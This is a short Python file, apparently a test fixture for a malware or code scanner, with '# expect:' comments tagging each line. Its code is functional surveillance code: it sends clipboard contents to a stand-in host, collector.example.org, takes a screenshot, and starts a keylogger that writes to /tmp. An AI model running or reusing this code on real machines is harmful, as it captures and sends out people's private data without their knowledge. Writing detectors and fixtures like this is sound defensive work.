# ruff: noqa
# fmt: off
"""Clipboard, screen and keyboard."""
import pyperclip
import requests
from PIL import ImageGrab
from pynput import keyboard

clip = pyperclip.paste()  # expect: clipboard-access
requests.post("https://collector.example.org/c", data=clip, timeout=3)  # expect: exfiltrate-sensitive-data

shot = ImageGrab.grab()  # expect: screenshot
shot.save("/tmp/s.png")

def on_press(key):
    with open("/tmp/k.log", "a") as log:
        log.write(str(key))

listener = keyboard.Listener(on_press=on_press)  # expect: keylogger
listener.start()
